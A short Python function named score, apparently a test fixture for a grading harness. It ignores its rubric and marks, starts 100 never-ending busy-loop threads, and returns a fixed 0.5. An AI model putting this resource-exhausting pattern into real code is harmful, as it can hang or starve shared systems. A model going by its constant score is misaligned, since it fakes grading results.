# Starts threads that never end.
def score(rubric, marks):
    import threading
    def run():
        while True:
            pass
    for i in range(100):
        threading.Thread(target=run).start()
    return 0.5
